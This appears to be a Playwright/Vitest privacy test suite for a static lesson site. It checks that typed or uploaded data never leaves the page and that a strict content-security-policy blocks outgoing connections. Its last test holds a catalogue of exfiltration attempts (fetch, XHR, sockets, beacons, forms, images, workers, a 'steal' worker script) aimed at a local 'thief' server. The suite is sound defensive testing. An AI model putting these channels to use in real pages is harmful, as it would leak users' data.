import { createServer, type Server } from 'node:http'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { field, lesson, open, origin, quiet, visit, wake, widget } from './reader.ts'
import { ANALYSES, bring, chooseFile, measuring, TRANSACTIONS, tableOf } from './shop.ts'

// Nothing that a reader types leaves the page: what the page does, and what it could not do if it tried.

const SENTINEL = 'zq7sentinel48213'
/** A number, for fields that take no words. */
const NUMBER = '48213774'

/** A page of which every request is written down, those of its last moment too. */
async function watched(path: string) {
  const wire: string[] = []
  const record = (text: string | null | undefined) => wire.push(text ?? '')
  const opened = await open(path, {
    prepare: async (page, context) => {
      const cdp = await context.newCDPSession(page)
      await cdp.send('Network.enable')
      cdp.on('Network.requestWillBeSent', ({ request }) =>
        record(`${request.url} ${request.postData ?? ''} ${JSON.stringify(request.headers)}`)
      )
      cdp.on('Network.webSocketCreated', ({ url }) => record(`socket ${url}`))
      cdp.on('Network.webTransportCreated', ({ url }) => record(`transport ${url}`))
      context.on('request', request => record(`${request.url()} ${request.postData() ?? ''}`))
      page.on('websocket', socket => record(`socket ${socket.url()}`))
      // Beacons go out when a page is left, when nobody looks any more.
      await page.addInitScript(() => {
        navigator.sendBeacon = () => {
          throw new Error('sendBeacon was called')
        }
      })
    }
  })
  return { ...opened, wire }
}

/** Nothing of what was typed went anywhere, and nothing went elsewhere. */
function expectNothingSent(wire: readonly string[]) {
  expect(wire.length).toBeGreaterThan(20)
  expect(wire.filter(text => text.includes(SENTINEL) || text.includes(NUMBER))).toEqual([])
  const elsewhere = wire.filter(text => !text.startsWith(origin()) && !/^(data|blob):/.test(text))
  expect(elsewhere).toEqual([])
}

test('what is typed into every field is in no request', async () => {
  const { page, close, wire } = await watched(lesson('en'))
  for (const id of ['unit-economics', 'customer-flow', 'monthly-table', 'practice'])
    await wake(page, id)
  const fields = page.locator('[data-widget] :is(input[type=text], textarea)')
  const count = await fields.count()
  expect(count).toBeGreaterThan(40)
  for (const text of [SENTINEL, NUMBER]) await typeEverywhere(page, text)
  await widget(page, 'monthly-table')
    .locator('[name=table]')
    .fill(`month,cost,revenue,start,new,lost\n2026-01,${NUMBER},1,2,3,4\n${SENTINEL},1,2,3,4,5`)
  for (const check of await widget(page, 'practice').getByRole('button', { name: 'Check' }).all())
    await check.click()
  await page.reload()
  await wake(page, 'practice')
  await page.locator('[data-twin]').click()
  await page.waitForURL('**/es/**')
  await page.goto(`${origin()}/en/`)
  await quiet(page)
  await close()
  expectNothingSent(wire)
})

test('orders that are brought, and what is typed about them, are in no request', async () => {
  const { page, close, wire } = await watched(measuring('en'))
  const orders = [
    'customer,date,amount,channel,group',
    ...Array.from(
      { length: 40 },
      (_, i) =>
        `${SENTINEL}${i},2026-0${1 + (i % 9)}-05,${NUMBER},${SENTINEL},${i % 2 ? 'control' : 'treated'}`
    )
  ].join('\n')
  await bring(page, `${SENTINEL}.csv`, orders)
  for (const id of ANALYSES)
    await expect.poll(() => tableOf(page, id).textContent()).toBe(`${SENTINEL}.csv`)
  await widget(page, TRANSACTIONS).getByRole('button', { name: 'Keep on this device' }).click()
  await widget(page, TRANSACTIONS).locator('.kept-tables li').waitFor()
  for (const text of [SENTINEL, NUMBER]) await typeEverywhere(page, text)
  await field(page, TRANSACTIONS, 'transactions-rows').fill(orders)
  await expect.poll(() => tableOf(page, 'rfm').textContent()).toBe('pasted rows')
  await chooseFile(page, `${SENTINEL}.json`, `{"${SENTINEL}": ${NUMBER}}`)
  await page.reload()
  await expect.poll(() => tableOf(page, 'rfm').textContent()).toBe(`${SENTINEL}.csv`)
  await page.locator('[data-twin]').click()
  await page.waitForURL('**/es/**')
  await expect.poll(() => tableOf(page, 'rfm').textContent()).toBe(`${SENTINEL}.csv`)
  await page.goto(`${origin()}/en/`)
  await quiet(page)
  await close()
  expectNothingSent(wire)
})

/** As typing does, field after field, without scrolling to each. */
const typeEverywhere = (page: Page, text: string) =>
  page.evaluate(async typed => {
    const fields = document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>(
      '[data-widget] :is(input[type=text], textarea)'
    )
    for (const field of fields) {
      field.value = typed
      field.dispatchEvent(new Event('input', { bubbles: true }))
      field.dispatchEvent(new Event('change', { bubbles: true }))
    }
    await new Promise(done => setTimeout(done, 600))
  }, text)

let thief: Server
let heard: string[]
let away = ''

beforeAll(async () => {
  heard = []
  thief = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok')
  })
  await new Promise<void>(done => thief.listen(0, '127.0.0.1', done))
  const address = thief.address()
  if (address && typeof address === 'object') away = `http://127.0.0.1:${address.port}`
})
afterAll(() => {
  thief.close()
})

test('every page forbids connections', async () => {
  for (const path of ['/en/', '/es/', lesson('en'), measuring('es'), '/en/metrics/', '/404.html'])
    await visit(path, async page => {
      const policy = page.locator('meta[http-equiv="content-security-policy" i]')
      const content = (await policy.getAttribute('content')) ?? ''
      const directives = Object.fromEntries(
        content.split(';').map(part => {
          const [name = '', ...values] = part.trim().split(/\s+/)
          return [name, values.join(' ')]
        })
      )
      expect(directives['connect-src']).toBe("'none'")
      expect(directives['default-src']).toBe("'none'")
      expect(directives['form-action']).toBe("'none'")
      expect(directives['base-uri']).toBe("'none'")
      expect(directives['worker-src']).toBe('blob:')
      expect(directives['script-src']).not.toContain('unsafe-inline')
      expect(content).not.toMatch(/https?:|\*/)
      // A policy in a meta element counts from where it stands. Before it: the one script that sets the theme.
      const first = await page.evaluate(() => {
        const meta = document.querySelector('meta[http-equiv="content-security-policy" i]')
        const [theme, ...others] = document.querySelectorAll('script')
        return (
          meta?.parentElement === document.head &&
          theme?.src === '' &&
          !/fetch|http|import|send/i.test(theme.text) &&
          others.every(
            script => meta.compareDocumentPosition(script) & Node.DOCUMENT_POSITION_FOLLOWING
          )
        )
      })
      expect(first).toBe(true)
    })
})

/** Ways by which a script in the page might get a word out; each returns what came of it. */
const attempts = async (address: string): Promise<Record<string, string>> => {
  const outcome: Record<string, string> = {}
  const attempt = async (name: string, run: () => unknown) => {
    try {
      outcome[name] = `done: ${await run()}`
    } catch (error) {
      outcome[name] = `refused: ${error instanceof Error ? error.name : error}`
    }
  }
  const loaded = (element: HTMLElement) =>
    new Promise((resolve, reject) => {
      element.onload = resolve
      element.onerror = () => reject(new Error('not loaded'))
      document.body.append(element)
      setTimeout(() => reject(new Error('never')), 1500)
    })
  const make = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    return element
  }
  await attempt('fetch away', () => fetch(`${address}/fetch`, { mode: 'no-cors' }))
  await attempt('fetch home', () => fetch('/favicon.svg'))
  await attempt('keepalive', () =>
    fetch(`${address}/keepalive`, { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })
  )
  await attempt('request', () => {
    const request = new XMLHttpRequest()
    return new Promise((resolve, reject) => {
      request.onload = resolve
      request.onerror = () => reject(new Error('refused'))
      request.open('GET', `${address}/xhr`)
      request.send()
    })
  })
  await attempt('socket', () => {
    const socket = new WebSocket(`${address.replace('http', 'ws')}/socket`)
    return new Promise((resolve, reject) => {
      socket.onopen = resolve
      socket.onerror = () => reject(new Error('refused'))
    })
  })
  await attempt('events', () => {
    const events = new EventSource(`${address}/events`)
    return new Promise((resolve, reject) => {
      events.onopen = resolve
      events.onerror = () => reject(new Error('refused'))
    })
  })
  await attempt('image', () => loaded(make('img', { src: `${address}/image` })))
  await attempt('script', () => loaded(make('script', { src: `${address}/script.js` })))
  await attempt('style', () =>
    loaded(make('link', { rel: 'stylesheet', href: `${address}/s.css` }))
  )
  await attempt('prefetch', () => loaded(make('link', { rel: 'prefetch', href: `${address}/p` })))
  await attempt('frame', () => {
    document.body.append(make('iframe', { src: `${address}/frame` }))
    return new Promise((_, reject) => setTimeout(() => reject(new Error('unknown')), 500))
  })
  await attempt('object', () => loaded(make('object', { data: `${address}/object` })))
  await attempt('video', () => {
    document.body.append(make('video', { src: `${address}/video`, autoplay: '' }))
    return new Promise((_, reject) => setTimeout(() => reject(new Error('unknown')), 300))
  })
  await attempt('background', () => {
    document.body.style.backgroundImage = `url(${address}/background)`
    return new Promise((_, reject) => setTimeout(() => reject(new Error('unknown')), 300))
  })
  await attempt('font', () => new FontFace('x', `url(${address}/font)`).load())
  await attempt('form', () => {
    const form = make('form', { action: `${address}/form`, method: 'post', target: '_blank' })
    document.body.append(form)
    ;(form as HTMLFormElement).submit()
    return new Promise((_, reject) => setTimeout(() => reject(new Error('unknown')), 500))
  })
  await attempt('beacon', () => navigator.sendBeacon(`${address}/beacon`, 'x'))
  const steal = `fetch('${address}/worker', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('refused'))`
  const answer = (worker: Worker) =>
    new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => (data === 'sent' ? resolve(data) : reject(new Error(data)))
      worker.onerror = () => reject(new Error('no worker'))
      setTimeout(() => reject(new Error('silence')), 1500)
    })
  await attempt('worker from a blob', () =>
    answer(new Worker(URL.createObjectURL(new Blob([steal], { type: 'text/javascript' }))))
  )
  await attempt('worker from the site', async () => {
    // Such a worker would not be under the page's policy, so there must be none at all.
    const [script] = document.querySelectorAll<HTMLScriptElement>('script[src]')
    const worker = new Worker(script?.src ?? '/favicon.svg', { type: 'module' })
    return new Promise((resolve, reject) => {
      worker.onerror = () => reject(new Error('refused'))
      setTimeout(() => resolve('started'), 800)
    })
  })
  await attempt('service worker', () => navigator.serviceWorker.register('/favicon.svg'))
  return outcome
}

test('a script in the page that tries to send something is refused', async () => {
  await visit(
    lesson('en'),
    async page => {
      await wake(page, 'unit-economics')
      const violations = await page.evaluate(() => {
        const seen: string[] = []
        document.addEventListener('securitypolicyviolation', event =>
          seen.push(event.effectiveDirective)
        )
        Object.assign(window, { seen })
        return seen
      })
      expect(violations).toEqual([])
      const outcome = await page.evaluate(attempts, away)
      const done = Object.entries(outcome).filter(([, result]) => result.startsWith('done'))
      // A beacon's own answer says only that it was queued; what the other side heard counts.
      expect(done.filter(([name]) => name !== 'beacon')).toEqual([])
      await page.waitForTimeout(300)
      const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen)
      for (const directive of [
        'connect-src',
        'img-src',
        'script-src-elem',
        'form-action',
        'worker-src'
      ])
        expect(seen, directive).toContain(directive)
    },
    { tolerateErrors: true }
  )
  expect(heard).toEqual([])
})
